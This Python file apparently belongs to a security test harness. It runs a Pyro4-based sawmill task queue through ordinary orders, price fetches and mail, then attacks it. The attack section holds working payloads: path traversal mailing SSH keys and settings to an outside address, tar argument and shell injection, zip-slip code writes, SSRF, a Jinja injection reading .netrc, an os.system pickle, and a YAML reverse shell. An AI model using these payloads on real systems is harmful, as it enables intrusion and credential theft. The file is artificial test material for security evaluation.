# SPDX-License-Identifier: Apache-2.0
"""A task queue of Pyro4's making, in a sawmill."""
import email
import io
import json
import random
import zipfile

import stage

TIMBER = {"__init__.py": (
    "KILOS = {'spruce': 23.0, 'larch': 30.0, 'oak': 38.0, 'ash': 36.5}\n\n\n"
    "def weight(wood, metres):\n"
    "    return round(KILOS[wood] * metres, 1)\n")}
TIMBER_NEW = {
    "__init__.py": "from timber.weights import weight\n",
    "weights.py": (
        "import json\nimport pkgutil\n\n"
        "KILOS = json.loads(pkgutil.get_data('timber', 'kilos.json'))\n\n\n"
        "def weight(wood, metres):\n"
        "    return round(KILOS[wood] * metres, 1)\n"),
    "kilos.json": json.dumps({
        "spruce": 23.4, "larch": 30.1, "oak": 38.0, "ash": 36.5,
        "maple": 33.0})}
SETTINGS = """[queue]
names = {names}
dispatcher = {dispatcher}
workers = 2

[mail]
port = {mail}

[suppliers]
number = {secret}
"""
PRICES = "spruce;{}\nlarch;{}\n"
# Sends what the dispatcher unpickles to know what is wanted of it.
PARCEL = """
import os, sys
sys.path.insert(0, {srv!r})
import common

class Line:
    def __reduce__(self):
        return os.system, ({line!r},)

with common.dispatcher() as queue:
    queue._pyroSerializer = "pickle"
    queue.submit("tally", {{"date": Line()}}, "anna")
"""
# clerk, customer, order, wood, formula, folder of the inbox, place of a
# supplier, its woods' prices
DAYS = {
    1: (("anna", "moor", "2026-0011", "spruce", "metres * 4.5", "",
         "nordholz", "/lists/2026-03-02.csv", (4.1, 6.8)),
        ("ben", "joinery-lang", "2026-0012", "larch",
         "math.ceil(boards) * 19", "march/", "weber", "/weber/today", (4, 7)),
        ("carla", "boatyard", "17b", "oak", "metres * price", "",
         "nordholz", "/lists/2026-03-03.csv", (4.2, 6.9)),
        ("anna", "school_4", "2026-0013", "spruce", "metres * price + 12",
         "march/", "weber", "/weber/today", (4.4, 7.25))),
    2: (("ben", "moor", "2026-0021", "ash", "boards * 30", "april/",
         "nordholz", "/lists/2026-04-07.csv", (5, 7)),
        ("dora", "timberframe.eu", "2026-0022", "spruce", "metres * 4.6",
         "", "alpin-saege", "/download/prices", (3.9, 6.1)),
        ("carla", "boatyard", "18a", "oak", "math.floor(metres) * price",
         "april/", "weber", "/weber/today", (4.5, 7.5)),
        ("dora", "parish", "2026-0023", "larch", "metres * price - 5",
         "repeat/", "nordholz", "/lists/2026-04-08.csv", (5.1, 7.1))),
    3: (("anna", "carport-co", "2026-0031", "larch", "boards * 22", "may/",
         "alpin-saege", "/download/prices", (4, 6.2)),
        ("emil", "moor", "2026-0032", "oak", "metres * price", "",
         "nordholz", "/lists/2026-05-04.csv", (5.2, 7.3)),
        ("carla", "boatyard", "19", "ash", "math.ceil(metres) * price",
         "may/", "weber", "/weber/today", (4.7, 7.7)),
        ("emil", "stage-works", "2026-0033", "spruce", "metres * 4.4",
         "stairs/", "nordholz", "/lists/2026-05-05.csv", (5, 7)))}
# What dealers put in a parcel, each in his way.
PARCELS = (["order.yaml", "sketches/front.svg"],
           ["order-{order}.yaml", "sketches/{wood}.svg", "readme.txt"],
           ["{order}.yaml", "views/front.png", "views/side-{order}.png"],
           ["{wood}/order.yaml", "{wood}/stack.svg", "terms.pdf"])


class Sink:
    """Takes every mail."""

    def __init__(self, port):
        # Not before it is known to be installed.
        from aiosmtpd.controller import Controller
        self.mails = []
        self.controller = Controller(self, hostname="127.0.0.1", port=port)
        self.controller.start()

    async def handle_DATA(self, _server, _session, envelope):
        self.mails.append(envelope.content)
        return "250 kept"

    def holds(self, text):
        """Whether a mail does, or what is attached to it."""
        return any(text.encode() in (part.get_payload(decode=True) or b"")
                   for mail in self.mails
                   for part in email.message_from_bytes(mail).walk())


class Pyro4Sawmill(stage.Service):
    """Cutting plans, labels, prices and mails from a queue (Pyro4)."""
    packages = ["python3-pyro4", "python3-reportlab", "python3-pil",
                "python3-jinja2", "python3-yaml", "python3-aiosmtpd",
                "poppler-utils", "zip", "fonts-dejavu-core"]
    sink = None

    def arrange(self):
        stage.write(self.srv / "etc/mill.ini", SETTINGS.format(
            names=self.port("names"), dispatcher=self.port("web"),
            mail=self.port("mail"), secret="not-" + stage.SECRET), 0o600)
        for name in ("var/log", "var/run", "var/cache", "var/failed",
                     "yard/inbox", "yard/reports", "yard/sent"):
            (self.srv / name).mkdir(parents=True)
        self.install("timber", "1.3.0", TIMBER)

    def arrange_benign(self):
        self.install("timber", "1.3.1", TIMBER_NEW)

    def command(self):
        return [self.python, "mill.py"]

    def start(self):
        if not self.sink:
            self.sink = Sink(self.port("mail"))
        super().start()
        status, output = self.office("status")
        if status:
            raise stage.Broken(output)

    def stop(self):
        super().stop()
        if self.sink:
            self.sink.controller.stop()
            self.sink = None

    # ------------------------------------------------------------ ordinary use
    def office(self, *words):
        """The clerks' own computers are nobody's concern here."""
        return self.run(self.python, "-B", "office.py", *words,
                        wrapped=False)

    def task(self, *words):
        """What became of it."""
        status, output = self.office(*words)
        try:
            return json.loads(output)
        except ValueError:
            return {"state": f"status {status}", "error": output,
                    "result": None}

    def submit(self, who, kind, *words, state="done", **values):
        """Returns the task."""
        words = [*words, *(f"{name}={value}"
                           for name, value in values.items())]
        task = self.task("submit", who, kind, *words)
        self.expect(f"{who}: {kind} {' '.join(words)}",
                    task["state"] == state, task)
        return task

    def makes(self, *names):
        for name in names:
            path = self.srv / "yard" / name
            self.expect(f"{name} made", path.is_file()
                        and path.stat().st_size)

    def put(self, clerk, name, content):
        stage.write(self.srv / "yard/inbox" / clerk / name, content)

    def cuts(self, seed, count=6):
        dice = random.Random(seed)
        return "piece,length,count\n" + "".join(
            f"{dice.choice(['beam', 'rafter', 'Bohle', 'lath'])} {number},"
            f"{dice.randrange(300, 4800, 50)},{dice.randrange(1, 4)}\n"
            for number in range(count))

    def parcel(self, order, wood, names):
        """A dealer's zip."""
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w") as file:
            for name in names:
                file.writestr(name, (
                    f"number: '{order}'\nwood: {wood}\nmetres: 31.5\n"
                    if name.endswith(("yaml", "yml")) else "<svg/>"))
        return content.getvalue()

    def price_list(self, clerk, supplier, date, path, prices):
        page = path.partition("?")[0]
        self.site("trade").page(page, PRICES.format(*prices))
        self.submit(clerk, "prices", supplier=supplier, date=date,
                    url=self.site("trade").url + path)
        self.makes(f"prices/{supplier}/{date}.csv")

    def plan(self, clerk, customer, order, wood, formula, file):
        """For the saw, for the customer, and as a picture of it."""
        for kind in ("pdf", "svg"):
            self.submit(clerk, "cutplan", clerk=clerk, cuts=file,
                        customer=customer, order=order, format=kind,
                        wood=wood, formula=formula, price="4.85")
            self.makes(f"out/{customer}/{order}-plan.{kind}")
        self.submit(clerk, "preview", customer=customer, order=order)
        self.makes(f"out/{customer}/{order}-preview.png")

    def job(self, clerk, customer, order, wood, formula, folder, date,
            label="png", letter="ready"):
        """An order, from the parcel to the mail and the shelf."""
        parcel, file = f"{folder}{order}.zip", f"{folder}cuts-{order}.csv"
        names = [name.format(order=order, wood=wood) for name in
                 PARCELS[sum(order.encode()) % len(PARCELS)]]
        self.put(clerk, parcel, self.parcel(order, wood, names))
        self.put(clerk, file, self.cuts(order))
        self.put(clerk, "logo.png", stage.png(40))
        self.submit(clerk, "intake", clerk=clerk, customer=customer,
                    parcel=parcel)
        self.makes(*(f"orders/{customer}/{name}" for name in names))
        self.plan(clerk, customer, order, wood, formula, file)
        self.submit(clerk, "labels", f"line={order} A", f"line={order} B",
                    f"line={customer}", clerk=clerk, customer=customer,
                    order=order, format=label, logo="logo.png")
        self.makes(f"out/{customer}/{order}-labels.{label}")
        self.mail(clerk, customer, order, letter, [
            f"{order}-plan.pdf", f"{order}-labels.{label}"])
        month = date[:7].replace("-", "/")
        self.submit(clerk, "archive", f"name={order}-plan.pdf",
                    f"name={order}-plan.svg", customer=customer, month=month)
        self.makes(f"archive/{month}/{customer}.zip")
        if letter == "bill":
            self.submit(clerk, "tidy", customer=customer, order=order)

    def mail(self, clerk, customer, order, letter, attached, **values):
        address = "".join(sign for sign in customer.lower()
                          if sign.isascii() and sign.isalnum())
        values.setdefault("to", f"{address}@customers.example")
        self.submit(clerk, "mail", *(f"attach={name}" for name in attached),
                    clerk=clerk, customer=customer, order=order,
                    letter=letter, note="Ask for {{ clerk }}.", **values)
        self.expect(f"mail of {order}", self.sink.holds(order))

    def fails(self, day):
        """What goes wrong on any day."""
        self.submit("ben", "cutplan", clerk="ben", cuts=f"lost-{day}.csv",
                    customer="moor", order=f"x{day}", state="failed")
        self.put("ben", f"long-{day}.csv", "piece,length,count\npole,9000,1\n")
        self.submit("ben", "cutplan", clerk="ben", cuts=f"long-{day}.csv",
                    customer="moor", order=f"y{day}", state="failed")
        self.submit("carla", "mail", clerk="carla", customer="moor",
                    order=f"z{day}", to="moor@customers.example",
                    attach=f"none-{day}.pdf", state="failed")
        path = f"/late/{day}.csv"
        task = self.submit("anna", "prices", supplier="weber",
                           date=f"2026-06-0{day}", state="failed",
                           url=self.site("trade").url + path)
        self.site("trade").page(path, PRICES.format(3, 4))
        self.expect("retried", self.task("retry", str(task["id"]))[
            "state"] == "done")

    def train(self, day):
        for number, (clerk, customer, order, wood, formula, folder, supplier,
                     path, prices) in enumerate(DAYS[day]):
            date = f"2026-0{day + 2}-{10 * day + number % 2:02}"
            self.price_list(clerk, supplier, date, path, prices)
            self.job(clerk, customer, order, wood, formula, folder, date,
                     ("png", "jpg")[number % 2], ("ready", "bill")[number > 1])
            self.submit("anna", "tally", date=f"2026-0{day + 2}-1{number}")
        self.fails(day)
        clerk, customer, order, *_ = DAYS[day][0]
        self.mail(clerk, customer, order, "ready", [f"{order}-plan.svg"],
                  cc=f"{clerk}@sawmill.example")
        self.submit(clerk, "labels", "line=rest", clerk=clerk,
                    customer=customer, order=f"{order}-r", columns=1 + day)
        self.submit(clerk, "preview", customer=customer, order=order,
                    dpi=50 + 10 * day)
        self.restart()
        clerk, customer, order, wood, formula, folder, *_ = DAYS[day][3]
        self.plan(clerk, customer, order, wood, formula,
                  f"{folder}cuts-{order}.csv")

    def benign(self):
        for clerk, customer, order, wood, formula, folder, date, label in (
                ("Hans Peter", "Müller & Sohn", "2027-0105", "maple",
                 "math.sqrt(metres) * price", "2027/january/", "2027-01-31",
                 "png"),
                ("o.brien", "St. Mary's Hall (new)", "77.1", "oak",
                 "round(metres) * 41", "", "2031-12-24", "jpeg"),
                ("zoe-lu", "x", "Ä 9", "larch", "metres * 3 if boards > 2 "
                 "else 50", "beams & rafters/", "2028-02-29", "tif"),
                ("anna", "moor", "2026-0011", "spruce", "metres * 4.5", "",
                 "2026-03-10", "png")):
            self.job(clerk, customer, order, wood, formula, folder, date,
                     label, ("ready", "bill")[order[-1] in "19"])
            self.price_list(clerk, "Säge-Union " + order[0], date,
                            f"/archive/{date[:4]}/list-{date}.csv?vat=7",
                            (9, 11.75))
            self.submit(clerk, "tally", date=date)
        self.odd_use()
        self.honest_mistakes()
        self.restart()
        self.mail("o.brien", "x", "Ä 9", "ready", ["Ä 9-plan.svg"],
                  cc="zoe-lu@sawmill.example")

    def odd_use(self):
        self.put("ben", "Liste Nr. 4 (Kopie).v2.csv", self.cuts("much", 90))
        self.plan("ben", "moor", "2026-0400", "ash", "boards * 28",
                  "Liste Nr. 4 (Kopie).v2.csv")
        self.submit("ben", "cutplan", clerk="ben", customer="moor",
                    cuts="Liste Nr. 4 (Kopie).v2.csv", order="2026-0401",
                    title="Sägeplan", formula="metres * 5")
        self.submit("zoe-lu", "labels", *(
            f"line=bundle {number} größe" for number in range(40)),
            clerk="zoe-lu", customer="x", order="Ä 10", columns=5)
        self.mail("ben", "moor", "2026-0400", "bill",
                  ["2026-0400-plan.pdf", "2026-0400-plan.svg",
                   "2026-0400-preview.png"], reply_to="ben@sawmill.example",
                  to="buying.dept@a-b.customers.example")
        self.put("ben", "parcels/two.zip", self.parcel(
            "2026-0402", "oak", ["a/order.yml", "a/views/front view.svg",
                                 "b/order.v2.yaml", "readme.md"]))
        self.submit("ben", "intake", clerk="ben", customer="builders.co",
                    parcel="parcels/two.zip")
        self.makes("orders/builders.co/a/views/front view.svg")
        for number in range(16):  # workers are replaced
            self.submit("anna", "tally", date=f"2029-10-{10 + number}")

    def honest_mistakes(self):
        self.fails(7)
        self.put("zoe-lu", "broken.zip", b"PK nothing")
        self.submit("zoe-lu", "intake", clerk="zoe-lu", customer="x",
                    parcel="broken.zip", state="failed")
        self.submit("zoe-lu", "cutplan", clerk="zoe-lu", customer="x",
                    order="9", cuts="beams & rafters/cuts-Ä 9.csv",
                    wood="balsa", state="failed")
        self.submit("zoe-lu", "cutplan", clerk="zoe-lu", customer="x",
                    order="9", cuts="beams & rafters/cuts-Ä 9.csv",
                    formula="metres *", state="failed")
        self.submit("zoe-lu", "saw", customer="x", state="failed")
        self.submit("zoe-lu", "tally", day="monday", state="failed")

    def health(self):
        self.put("anna", "cuts-1.csv", self.cuts("1"))
        self.submit("anna", "cutplan", clerk="anna", cuts="cuts-1.csv",
                    customer="moor", order="2026-0001", wood="spruce",
                    formula="metres * 4.5", price="4.85", format="svg")
        self.price_list("anna", "weber", "2026-03-02", "/weber/today",
                        (4, 7))

    # ----------------------------------------------------------------- attacks
    def sends(self, name):
        """Whether a mail holds a secret that a file below the yard has."""
        self.task("submit", "anna", "mail", "clerk=anna", "customer=moor",
                  "order=1", "to=eve@elsewhere.example", f"attach={name}")
        return self.sink.holds(self.secret)

    def renders(self, expression):
        """expression: of Python, in a note; what the mail says is in
        sink."""
        self.task("submit", "anna", "mail", "clerk=anna", "customer=moor",
                  "order=1", "to=eve@elsewhere.example",
                  "note={{ cycler.__init__.__globals__.__builtins__."
                  + expression + " }}")

    def formula(self, expression):
        self.put("anna", "cuts.csv", self.cuts("2"))
        self.task("submit", "anna", "cutplan", "clerk=anna", "cuts=cuts.csv",
                  "customer=moor", "order=2", f"formula={expression}")

    def prices_of(self, url):
        """What a clerk is told."""
        return json.dumps(self.task(
            "submit", "anna", "prices", "supplier=weber", "date=2026-03-02",
            f"url={url}"))

    def slips(self, name, text):
        """A parcel with a file that leads elsewhere."""
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w") as file:
            file.writestr(name, text)
        self.put("anna", "evil.zip", content.getvalue())
        self.task("submit", "anna", "intake", "clerk=anna", "customer=moor",
                  "parcel=evil.zip")

    @stage.attack("traversal")
    def attached_is_a_private_key(self):
        return self.sends("../../../../home/.ssh/id_rsa")

    @stage.attack("secret disclosure")
    def attached_are_the_settings(self):
        return self.sends("../../../etc/mill.ini")

    @stage.attack("traversal")
    def archive_holds_the_payroll(self):
        self.task("submit", "anna", "archive", "customer=moor",
                  "month=2026/03", "name=../../../../payroll/2026.csv")
        path = self.srv / "yard/archive/2026/03/moor.zip"
        with zipfile.ZipFile(path) as content:
            return self.is_told(content.read("2026.csv"))

    @stage.attack("argument injection")
    def archive_is_tested_with_a_command(self):
        self.put("anna", "cuts.csv", self.cuts("3"))
        self.submit("anna", "cutplan", clerk="anna", cuts="cuts.csv",
                    customer="moor", order="3")
        return self.runs_line(lambda line: self.task(
            "submit", "anna", "archive", "customer=moor", "month=2026/03",
            "name=3-plan.pdf", "name=-T", "name=-TT", f"name={line} #"))

    @stage.attack("command injection")
    def resolution_runs_a_command(self):
        return self.runs_line(lambda line: self.task(
            "submit", "anna", "preview", "customer=moor", "order=1",
            f"dpi=40; {line};"))

    @stage.attack("write to code", fresh=True)
    def parcel_becomes_a_task(self):
        def use(line):
            self.slips("../../../tasks/evil.py",
                       f"import os\nos.system({line!r})\n")
            self.task("submit", "anna", "evil")
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def parcel_becomes_a_pth_file(self):
        self.slips("../../../../venv/lib/python3.11/site-packages/x.pth",
                   "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("SSRF")
    def prices_are_of_an_internal_service(self):
        return self.fetches_inside(self.prices_of)

    @stage.attack("SSRF")
    def prices_are_redirected_inside(self):
        return self.is_redirected_inside("trade", self.prices_of)

    @stage.attack("secret disclosure")
    def prices_are_a_local_file(self):
        return self.is_told(self.prices_of(
            f"file://{self.place}/payroll/2026.csv"))

    @stage.attack("template injection")
    def note_tells_a_password(self):
        self.renders(f"open('{self.home}/.netrc').read()")
        return self.sink.holds(self.secret)

    @stage.attack("exfiltration")
    def note_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.formula)

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.formula(f"exec({code!r})"))

    @stage.attack("reverse shell")
    def order_calls_home(self):
        return self.calls_home(lambda code: self.slips(
            "order.yaml",
            f"!!python/object/apply:exec\n- {json.dumps(code)}\n"))

    @stage.attack("unsafe pickle")
    def dispatcher_unpickles_a_command(self):
        return self.runs_line(lambda line: self.run(
            self.python, "-B", "-c", PARCEL.format(
                srv=str(self.srv), line=line), wrapped=False))

    @stage.attack("symlink swap", fresh=True)
    def plan_became_a_link(self):
        self.put("anna", "cuts.csv", self.cuts("4"))
        self.submit("anna", "cutplan", clerk="anna", cuts="cuts.csv",
                    customer="moor", order="4")
        path = self.srv / "yard/out/moor/4-plan.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.sends("4-plan.pdf")

    @stage.attack("malicious dependency", fresh=True)
    def timber_sends_credentials(self):
        def use():
            self.restart()
            self.formula("metres * 4.5")
        return self.dependency_steals("timber", "1.3.2", TIMBER, use)
